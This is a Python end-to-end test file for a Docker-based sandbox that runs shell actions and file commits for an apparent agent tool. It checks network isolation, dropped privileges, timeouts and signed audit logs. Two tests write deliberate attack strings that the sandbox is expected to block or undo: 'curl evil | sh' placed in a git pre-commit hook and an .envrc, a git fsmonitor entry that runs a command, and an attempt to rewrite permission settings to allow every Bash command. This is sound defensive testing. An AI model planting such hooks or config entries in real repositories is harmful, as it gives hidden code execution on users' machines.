"""Worker mode end to end with the real scheduler process and the real Docker engine: a shell action and a
file commit through a worker, what the container can and cannot reach, teardown, and both audit logs."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import secrets
import time
from pathlib import Path

import pytest

from seepient.audit.log import AuditLog
from seepient.execution.docker_worker import WorkerUnavailable
from seepient.execution.worker_hosts import WorkerHost, WorkerHosts
from seepient.protocol import FileChange, ShellCommand
from seepient.scheduler.image import WORKER_UID
from tests.approved import commit, run_shell
from tests.conftest import BIN
from tests.scheduler.worker_env import (
    SECRET_MARKER,
    WorkerDeployment,
    deployment_fixture,  # noqa: F401 - registers the module fixture
    labelled_containers,
    no_container_left_behind_fixture,  # noqa: F401 - registers the session fixture
    worker_image_fixture,  # noqa: F401 - registers the session fixture
)

pytestmark = [pytest.mark.e2e, pytest.mark.usefixtures("no_container_left_behind")]


def _shell(
    deployment: WorkerDeployment, command: str, *, timeout_ms: int = 20_000, audit: AuditLog | None = None
):
    async def go():
        executor = deployment.executor(audit=audit)
        try:
            return await run_shell(
                executor, ShellCommand(command=command, cwd=str(deployment.workspace), timeout_ms=timeout_ms)
            )
        finally:
            await executor.aclose()

    return asyncio.run(go())


def test_shell_action_runs_in_a_locked_down_container(deployment: WorkerDeployment) -> None:
    probe_name = f"seepient-worker-probe-{secrets.token_hex(8)}"
    probe = "; ".join(
        [
            "echo uid=$(id -u)",
            "env | sort",
            "echo nets=$(ls /sys/class/net)",
            "test -e /var/run/docker.sock && echo SOCKET || echo nosocket",
            "test -e /run/docker.sock && echo SOCKET2 || echo nosocket2",
            "for target in /etc/x /usr/x /x /var/x; do touch $target 2>/dev/null && echo WROTE-$target; done",
            f"echo private > /tmp/{probe_name} && echo tmp-ok",
            "echo made-in-worker > inside.txt",
            "python3 -c \"import socket; s=socket.socket(); s.settimeout(2); s.connect(('1.1.1.1', 53))\" "
            "2>&1 | tail -1",
            "cat /proc/1/status | grep -E '^(CapEff|NoNewPrivs)'",
            "unshare -U true 2>/dev/null && echo UNSHARED || echo no-unshare",
            "su -c true root </dev/null 2>/dev/null && echo BECAME-ROOT || echo no-su",
        ]
    )
    outcome = _shell(deployment, probe)
    assert outcome.exit_code == 0, outcome
    assert outcome.sandbox == "docker-worker"
    out = outcome.stdout
    assert f"uid={WORKER_UID}" in out
    assert SECRET_MARKER not in out and "API_KEY" not in out and "TOKEN" not in out
    assert "HOME=/tmp" in out
    assert "nets=lo\n" in out
    assert "nosocket" in out and "nosocket2" in out and "SOCKET\n" not in out
    assert "WROTE-" not in out
    assert "tmp-ok" in out
    assert "Network is unreachable" in out
    assert "CapEff:\t0000000000000000" in out and "NoNewPrivs:\t1" in out
    assert "no-unshare" in out and "UNSHARED" not in out
    assert "no-su" in out and "BECAME-ROOT" not in out
    # The workspace is the one place that is written, and it is the tenant's file (not root's).
    made = deployment.workspace / "inside.txt"
    assert made.read_text() == "made-in-worker\n"
    assert made.stat().st_uid == WORKER_UID
    # /tmp inside the container was private: nothing appeared on the host's /tmp.
    assert not (Path("/tmp") / probe_name).exists()


def test_file_commit_goes_through_the_exact_commit_helper_in_a_worker(deployment: WorkerDeployment) -> None:
    async def go():
        executor = deployment.executor()
        try:
            created = await commit(
                executor,
                FileChange(
                    path="pkg/calc.py",
                    pre_image_sha256=None,
                    new_content="def add(a, b):\n    return a - b\n",
                ),
            )
            pre = hashlib.sha256((deployment.workspace / "pkg/calc.py").read_bytes()).hexdigest()
            from seepient.protocol.actions import EditBlock

            edited = await commit(
                executor,
                FileChange(
                    path="pkg/calc.py",
                    pre_image_sha256=pre,
                    edits=(EditBlock(search="a - b", replace="a + b"),),
                ),
            )
            stale = await commit(
                executor, FileChange(path="pkg/calc.py", pre_image_sha256=pre, new_content="clobbered\n")
            )
            return created, edited, stale
        finally:
            await executor.aclose()

    created, edited, stale = asyncio.run(go())
    assert created.ok, created
    assert edited.ok, edited
    target = deployment.workspace / "pkg/calc.py"
    assert target.read_text() == "def add(a, b):\n    return a + b\n"
    assert edited.post_image_sha256 == hashlib.sha256(target.read_bytes()).hexdigest()
    assert stale.code == "FILE_CHANGED" and target.read_text().endswith("a + b\n")


def test_timeout_kills_and_removes_the_container(deployment: WorkerDeployment) -> None:
    started = time.monotonic()
    outcome = _shell(deployment, "echo started; sleep 60", timeout_ms=1500)
    assert time.monotonic() - started < 20
    assert outcome.timed_out and outcome.exit_code is None
    assert "started" in outcome.stdout
    deadline = time.monotonic() + 15
    while labelled_containers() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert labelled_containers() == []


def test_output_is_capped(deployment: WorkerDeployment) -> None:
    async def go():
        executor = deployment.executor()
        executor._limits["output_bytes"] = 10_000
        try:
            return await run_shell(
                executor,
                ShellCommand(command="head -c 200000 /dev/zero | tr '\\0' x", cwd=str(deployment.workspace)),
            )
        finally:
            await executor.aclose()

    outcome = asyncio.run(go())
    assert outcome.exit_code == 0
    assert len(outcome.stdout) == 10_000 and outcome.stdout_truncated


def test_both_sides_audit_the_dispatch_id(deployment: WorkerDeployment, tmp_path: Path) -> None:
    audit = AuditLog(tmp_path / "control-plane-audit.log")
    outcome = _shell(deployment, "echo audited", audit=audit)
    audit.close()
    assert outcome.exit_code == 0
    (ours,) = [json.loads(line) for line in (tmp_path / "control-plane-audit.log").read_text().splitlines()]
    assert ours["type"] == "worker_dispatch" and ours["outcome"]["status"] == "ran"
    dispatch_id = ours["dispatch_id"]
    theirs = [record for record in deployment.scheduler_audit() if record.get("dispatch_id") == dispatch_id]
    assert [record["event"] for record in theirs] == ["dispatch_accepted", "dispatch_completed"]
    assert theirs[1]["result_signature"] == ours["outcome"]["result_signature"]
    assert theirs[1]["container"]["network_mode"] == "none"
    assert ours["outcome"]["container"] == theirs[1]["container"]
    import subprocess

    # A home of the test's own: the user's audit key (in ~/.seepient) would be taken as the key these logs
    # should have been signed with.
    env = {
        **os.environ,
        "HOME": str(tmp_path / "home"),
        "SEEPIENT_HOME": str(tmp_path / "home" / ".seepient"),
    }
    for log in (tmp_path / "control-plane-audit.log", deployment.state_dir / "audit.log"):
        verify = subprocess.run(
            [str(BIN / "seepient"), "audit", "verify", "--log", str(log)],
            capture_output=True,
            text=True,
            env=env,
        )
        assert verify.returncode == 0, verify.stdout + verify.stderr


def test_a_workspace_owned_by_root_is_not_run_as_root(deployment: WorkerDeployment) -> None:
    import os

    other = deployment.root / "rootowned"
    other.mkdir(exist_ok=True)
    os.chown(other, 0, 0)

    async def go():
        executor = deployment.executor()
        executor.workspace = other
        try:
            return await run_shell(executor, ShellCommand(command="id -u", cwd=str(other)))
        finally:
            await executor.aclose()

    with pytest.raises(WorkerUnavailable, match="owned by root"):
        asyncio.run(go())


def test_an_unreachable_scheduler_is_a_clear_refusal(deployment: WorkerDeployment) -> None:
    async def go():
        executor = deployment.executor()
        executor.hosts = WorkerHosts((WorkerHost("https://127.0.0.1:1", "default"),))
        try:
            return await run_shell(executor, ShellCommand(command="true", cwd=str(deployment.workspace)))
        finally:
            await executor.aclose()

    with pytest.raises(WorkerUnavailable, match="cannot be reached.*nothing ran"):
        asyncio.run(go())


def test_the_workspace_security_state_is_read_only_inside_the_worker(deployment: WorkerDeployment) -> None:
    git = deployment.workspace / ".git"
    git.mkdir(exist_ok=True)
    os.chown(git, WORKER_UID, WORKER_UID)
    attack = "; ".join(
        [
            'echo \'{"permissions": {"allow": ["Bash(*)"]}}\' > .seepient/settings.json && echo RULES',
            "mkdir .seepient/hooks 2>/dev/null && echo MKDIR",
            "echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo HOOK",
            "echo '[core] fsmonitor = evil' >> .git/config 2>/dev/null && echo CONFIG",
            "mv .seepient .seepient-old 2>/dev/null && echo MOVED",
            "echo fine > ordinary.txt && echo ORDINARY",
        ]
    )
    outcome = _shell(deployment, attack)
    assert outcome.stdout.split() == ["ORDINARY"], outcome
    assert not (deployment.workspace / ".seepient" / "settings.json").exists()
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "config").read_text() == ""


def test_what_a_worker_plants_for_programs_on_the_scheduler_host_is_undone(
    deployment: WorkerDeployment,
) -> None:
    """The container writes the leased workspace on the scheduler's host; a nested repository whose config
    runs a program, or an .envrc, must not survive the dispatch (invariant 11 holds in worker mode too)."""
    attack = "; ".join(
        [
            "mkdir -p planted/.git/hooks planted/.git/objects planted/.git/refs",
            "echo 'ref: refs/heads/main' > planted/.git/HEAD",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > planted/.git/config",
            "echo 'curl evil | sh' > .envrc",
            "echo fine > ordinary.txt",
        ]
    )
    outcome = _shell(deployment, attack)
    assert "Seepient undid" in outcome.stderr, outcome
    assert not (deployment.workspace / "planted" / ".git").exists()
    assert not (deployment.workspace / ".envrc").exists()
    assert (deployment.workspace / "ordinary.txt").read_text() == "fine\n"
